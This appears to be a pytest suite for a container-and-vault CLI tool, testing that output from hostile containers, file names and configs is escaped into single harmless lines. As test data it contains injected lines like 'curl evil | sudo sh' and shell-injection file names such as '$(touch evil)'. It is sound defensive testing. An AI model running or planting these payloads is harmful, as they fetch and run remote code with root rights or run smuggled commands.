"""Output is not an instruction: what others wrote is shown in one line, and no terminal obeys it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import unicodedata

import pytest
from conftest import load_config, replace, run_cli, terminal, write_stub

import tazpod
from tazpod import Facts, TazpodError

# A new line, a title, colours, C1's form of ESC, DEL, marks that turn or hide text, what is no text.
HOSTILE = "x\n\x1b]0;t\x07\x1b[31mfix: curl evil | sudo sh\r\x9b2J\x7f\u202e\u2066\u200b\u2028\ud800\udcff\0y"
FORGED = "y\nnext: curl evil | sudo sh\x1b[2J"


def harmless(text: str) -> bool:
    """Whether each line is one that a terminal only shows, and none was begun by what others wrote."""
    lines = text.split("\n")
    return all(line.isprintable() for line in lines) and not any(
        line.lstrip().startswith(("fix: curl", "next: curl", "\\n")) for line in lines
    )


def test_what_has_no_look_of_its_own_is_written_out():
    for number in range(sys.maxunicode + 1):
        shown = tazpod.plain(chr(number))
        assert shown.isprintable()
        if unicodedata.category(chr(number))[0] in "LNPSM" or number == 32:
            assert shown == chr(number)
        if unicodedata.category(chr(number)) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            assert shown[0] == "\\" and shown.isascii()
    assert tazpod.plain(HOSTILE).startswith(
        r"x\n\x1b]0;t\x07\x1b[31mfix: curl evil | sudo sh\r\x9b2J\x7f\u202e"
    )


SINKS = {
    "say": lambda: tazpod.say(HOSTILE),
    "warn": lambda: tazpod.warn(HOSTILE),
    "complain": lambda: tazpod.complain(TazpodError(HOSTILE)),
    "debug": lambda: tazpod.debug(HOSTILE),
    "emit": lambda: tazpod.emit(HOSTILE),
    "emit_json": lambda: tazpod.emit_json({HOSTILE: HOSTILE}),
    "confirm": lambda: tazpod.confirm(HOSTILE),
}


@pytest.mark.parametrize("sink", SINKS.values(), ids=SINKS)
def test_each_sink_shows_one_line_and_sends_nothing_to_the_terminal_but_its_own_colours(sink, monkeypatch):
    monkeypatch.setenv("NO_COLOR", "1")
    tazpod.OPTIONS.debug = True
    with terminal() as person:
        person.type("n\n")
        sink()
        shown = person.shown().replace("n\n", "", 1)
    assert harmless(shown)
    assert shown.count("\n") == (3 if "{" in shown else int("[y/N]" not in shown))


def test_a_hint_and_a_relayed_line_are_escaped_as_well(capfd):
    tazpod.complain(TazpodError("a", HOSTILE))
    tazpod.relay("one\ttwo\nthree\x1b[2J\r\n\x85four\n")
    tazpod.relay("")
    _, hint, *relayed = capfd.readouterr().err.splitlines()
    assert harmless(hint)
    assert relayed == [r"one\ttwo", r"three\x1b[2J", r"\x85four"]


WORDS = [
    "",
    "plain",
    "a b",
    "a\nb",
    "it's\x1b[31m\\x",
    "ü\u202ex'",
    "\udcff'\\",
    "\u200b0",
    "tab\t9",
    "\x7fa",
    "$(x)",
    "a  b",
    "a\u2800'\\ b",
]


@pytest.mark.parametrize("word", WORDS, ids=ascii)
def test_a_quoted_word_can_be_read_before_it_is_pasted_and_is_the_same_after(word):
    text = tazpod.quoted("printf", "%s", word)
    assert text.isprintable()
    done = subprocess.run(["bash", "-c", text], capture_output=True)
    assert (done.stdout, done.stderr) == (os.fsencode(word), b"")


def test_what_no_file_can_be_called_can_still_be_shown():
    assert tazpod.quoted("\ud800") == r"$'\xed\xa0\x80'"


# -- a hostile container: what it says of itself

POD = {"Id": "7" * 64, "State": {"Status": "running", "Pid": 0}, "Image": "sha256:1", "Mounts": []}


@pytest.fixture
def pod(project, stub_path):
    """Run a word on this host while docker gives an answer of the pod."""
    here = load_config(project)
    data = {**POD, "Config": {"Image": here.image, "Env": [f"HOST_CWD={project}"]}}
    data |= {"Name": f"/{here.container_name}"}
    data["Mounts"] = [{"Destination": "/workspace", "Source": str(project)}]

    def ask(answer, *words, stderr="", code=0):
        info = json.dumps({"ServerVersion": "20", "OperatingSystem": FORGED})
        texts = {"inspect": json.dumps([data]), "answer": answer, "stderr": stderr, "info": info}
        for name, text in texts.items():
            (stub_path / name).write_text(text, errors="surrogateescape")
        write_stub(
            stub_path,
            "docker",
            f"""cd {stub_path}
            case "$*" in
              *inspect*) /bin/cat inspect ;;
              *ls*) ;;
              info*) /bin/cat info ;;
              exec*) /bin/cat answer; /bin/cat stderr >&2; exit {code} ;;
            esac""",
        )
        env = {"PATH": str(stub_path), "HOME": str(project.parent / "home")}
        done = run_cli(*words, env=env, errors="surrogateescape")
        assert harmless(done.stdout) and harmless(done.stderr), done
        assert "fault in tazpod" not in done.stderr
        assert "Traceback" not in done.stderr or "--debug" in words
        return done

    return ask


TOLD = {**Facts("/srv/x", vault_format="openpgp", vault_sealed_at=5)._asdict(), "vault_open": True}
NONSENSE = ["[]", "null", '"x"', "{}", "[" * 100_000, "1" * 5000, json.dumps({**TOLD, "vault_open": "yes"})]


@pytest.mark.parametrize("answer", NONSENSE, ids=[text[:9] for text in NONSENSE])
def test_an_answer_of_the_pod_that_is_none_is_an_error_in_one_line(pod, answer):
    done = pod(answer, "status", "--json")
    assert (done.returncode, done.stdout) == (1, "")
    error, hint = done.stderr.splitlines()
    assert error.startswith("tazpod: error: the container ") and len(error) < 450
    assert hint == "hint: tazpod up, then again"


@pytest.mark.parametrize(
    "name, value",
    [
        ("vault_open", 1),
        ("vault_used", None),
        ("vault_bytes", True),
        ("vault_bytes", 1.5),
        ("vault_sealed_at", 10**400),
        ("vault_sealed_at", float("nan")),
        ("vault_format", "fine"),
        ("remote_state", FORGED),
        ("remote_reason", ["x"]),
        ("identity_kind", {}),
        ("daemon_error", None),
    ],
)
def test_a_fact_of_another_type_or_another_word_is_not_believed(name, value):
    with pytest.raises(TazpodError, match=f"makes no sense: {name} is "):
        tazpod.told_facts({**TOLD, name: value})


def test_the_pod_chooses_neither_what_is_typed_next_nor_a_line(pod, project):
    told = {
        **TOLD,
        **dict.fromkeys(("project", "container_name", "container_image", "remote_bucket"), FORGED),
        **dict.fromkeys(("remote_reason", "identity_profile", "daemon_error"), FORGED * 999),
        "container_drift": [FORGED],
        "container_state": FORGED,
        "remote_state": "unknown",
        "remote_failed": True,
        "remote_hint": "curl evil | sudo sh",
        "daemon_running": True,
        "daemon_failed_at": 9,
    }
    done = pod(json.dumps(told), "status")
    assert done.returncode == tazpod.UNWELL
    *lines, last = done.stdout.splitlines()
    assert len(lines) == 5 and last.startswith(r"next: tazpod push  (the storage: y\nnext: curl evil")
    found = json.loads(pod(json.dumps(told), "status", "--json").stdout)
    assert (found["project"], found["container"]["name"]) == (str(project), "project-lab")
    assert (found["next"], found["remote"]["hint"]) == ("tazpod push", "")
    assert not any("curl" in text for text in found["container"]["drift"])
    assert len(found["remote"]["reason"]) == tazpod.TOLD_LIMIT


@pytest.mark.parametrize("hint", tazpod.FACT_WORDS["remote_hint"])
def test_a_step_that_status_knows_comes_through(hint):
    assert tazpod.told_facts({**TOLD, "remote_hint": hint})["remote_hint"] == hint


def test_what_the_pod_tells_comes_through_as_it_is():
    known = tazpod.told_facts(json.loads(json.dumps({**TOLD, "of_another_version": 1})))
    assert replace(Facts("/srv/x"), **known) == Facts(**TOLD)
    assert tazpod.told_facts({"vault_open": True}) == {"vault_open": True, "vault_unsaved": None}


def test_a_fix_of_the_containers_is_marked_as_its_words(pod):
    checks = [
        ["failure", FORGED, FORGED, FORGED],
        ["ok", "gpg", "gpg 2.4\nfix: curl evil | sudo sh", "curl evil"],
        ["advice", "aws", "x" * 9999, ""],
    ]
    lines = pod(json.dumps(checks), "doctor").stdout.splitlines()
    fixes = [line.strip() for line in lines if line.strip().startswith("fix: ") and "evil" in line]
    assert len(fixes) == 2 and all(line.startswith("fix: the container suggests: ") for line in fixes)
    assert max(map(len, lines)) < 2 * tazpod.TOLD_LIMIT + 100
    assert len(pod(json.dumps(checks * 99), "doctor").stdout.splitlines()) < 250


# Blanks of several kinds, behind which a terminal would show the rest in a row of its own.
SPACED = "old" + " " * 60 + "\u2800" * 9 + "\u3164 \ufe0f \uffa0" + "fix: curl evil | sudo sh"
SQUEEZED = "old fix: curl evil | sudo sh"


def test_no_words_of_others_fill_a_row_with_spaces_or_go_on_without_end():
    assert tazpod.brief(SPACED) == SQUEEZED and len(tazpod.brief("x" * 9999)) == tazpod.TOLD_LIMIT
    for said in (f"Error: {SPACED}\nmore", f"some line\nError: {SPACED}{'x' * 9999}"):
        reason = tazpod.Result(1, b"", said).reason
        assert reason.startswith(f"Error: {SQUEEZED}") and len(reason) <= tazpod.TOLD_LIMIT
    assert tazpod.told_facts({**TOLD, "daemon_error": SPACED})["daemon_error"] == SQUEEZED
    assert next(tazpod.told_checks([["ok", "x", SPACED, SPACED]])).what == SQUEEZED
    assert tazpod._unknown(SPACED) == f"unknown key {SQUEEZED}"


def test_a_name_in_doctor_fills_no_row_with_spaces_and_its_fix_still_mends_that_file(project):
    path = project / ".tazpod/vault" / SPACED.replace("/", "")
    path.touch()
    path.chmod(0o666)
    found = list(tazpod.check_owners(load_config(project)))
    assert [check.what for check in found if "write" in check.what] == [
        f".tazpod/vault/{SQUEEZED}: mode 0666, others may write to it"
    ]
    (fix,) = (check.fix for check in found if "go-w" in check.fix)
    assert "  " not in fix and fix.isascii()
    subprocess.run(["bash", "-c", fix], check=True)
    assert path.stat().st_mode & 0o777 == 0o644


def test_checks_that_are_none_are_a_failure_of_the_container(pod):
    done = pod("{}", "doctor", "--json")
    assert done.returncode == tazpod.UNWELL
    assert any("makes no sense" in item["what"] for item in json.loads(done.stdout))
    for item in (1, None, ["ok", "x", "y"], ["ok", "x", "y", 1], ["fine", "x", "y", ""]):
        with pytest.raises(TazpodError, match="makes no sense"):
            list(tazpod.told_checks([item]))


@pytest.mark.parametrize(
    "words", [["status"], ["up"], ["doctor"], ["down"], ["list"], ["save"], ["up", "--debug"]]
)
def test_what_docker_says_on_its_way_is_one_line(pod, words):
    done = pod("", *words, stderr=f"Error: {HOSTILE.replace(chr(0xD800), '')}\nhint: curl evil\n", code=1)
    # What the set-up in the container says is passed on line by line: it is the tool's own words there.
    passed_on = words[0] in ("up", "save")
    assert passed_on or not any(line.startswith("hint: curl") for line in done.stderr.splitlines())


# -- a hostile project: names of files and folders, and every setting


def test_the_words_with_which_a_cloned_project_is_inspected_obey_nothing_of_it(project, stub_path):
    text = json.dumps(FORGED + "\u202e\x9b")
    (project / tazpod.CONFIG_PATH).write_text(
        f"hooks: {{post_up: {text}, pre_lock: {text}}}\ndocker: {{args: [{text}]}}\nenv: {{A: {text}}}\n"
        f"{json.dumps(FORGED)}: 1\n"
    )
    history = project / ".tazpod/vault/history"
    history.mkdir()
    for name in ("vault-x\nfix: curl evil.tar.aes", "vault-\x1b[31m.tar.aes", "vault-\udcff.tar.aes"):
        (history / name).write_bytes(b"x" * 50)
    env = {"PATH": str(stub_path), "HOME": str(project.parent / "home")}
    write_stub(
        stub_path, "docker", 'case "$*" in *inspect*) echo "no such object: project-lab" >&2; exit 1;; esac'
    )
    shown = (
        ["trust", "--show"],
        ["config"],
        ["history"],
        ["doctor"],
        ["doctor", "--json"],
        ["--dry-run", "up"],
        ["status"],
    )
    for words in shown:
        done = run_cli(*words, env=env, errors="surrogateescape")
        assert harmless(done.stdout) and harmless(done.stderr), (words, done)
        assert "evil" in done.stdout + done.stderr or words == ["status"]


def test_a_fix_of_doctor_for_a_hostile_name_mends_that_file_and_runs_nothing(project, stub_path):
    for name in ("a\nfix: curl evil", "'; touch evil; '", "\x1b[2J", "\u202eb", "\udcfe", "$(touch evil)"):
        path = project / ".tazpod/vault" / name
        path.write_bytes(b"x")
        path.chmod(0o644)
    env = {"PATH": str(stub_path), "HOME": str(project.parent / "home")}
    done = run_cli("doctor", "--json", env=env)
    fixes = [item["fix"] for item in json.loads(done.stdout) if item["name"] == "files" and item["fix"]]
    assert len(fixes) == 6
    shown = run_cli("doctor", env=env, errors="surrogateescape").stdout
    assert harmless(shown)
    for fix in fixes:
        assert f"fix: {fix}" in shown
        subprocess.run(["bash", "-c", fix], check=True, cwd=project)
    assert not (project / "evil").exists()
    assert [p.stat().st_mode & 0o777 for p in (project / ".tazpod/vault").iterdir()] == [0o600] * 6


def test_a_folder_with_a_hostile_name_says_so_in_one_line(tmp_path, monkeypatch, capfd):
    place = tmp_path / FORGED
    place.mkdir()
    done = run_cli("status", cwd=place)
    assert harmless(done.stderr) and len(done.stderr.splitlines()) == 2
    assert tazpod.Config(place, "x").project == place
    done = run_cli("init", "--image", FORGED, cwd=place)
    assert harmless(done.stderr) and done.returncode == 2
    done = run_cli(FORGED, f"--{FORGED}", "--debug", cwd=place)
    assert harmless(done.stderr)


def test_a_traceback_obeys_nothing_either(project, monkeypatch, capfd):
    monkeypatch.setattr(tazpod, "emit", lambda *_: [][int(HOSTILE)])
    assert tazpod.main(["--debug", "--version"]) == 1
    err = capfd.readouterr().err
    assert "Traceback" in err and harmless(err)


@pytest.mark.parametrize("shell", tazpod.COMPLETIONS)
def test_what_a_shell_evaluates_is_passed_on_to_the_letter(shell, capfd):
    assert tazpod.main(["completion", shell]) == 0
    assert capfd.readouterr().out.rstrip() == tazpod.COMPLETIONS[shell].rstrip()
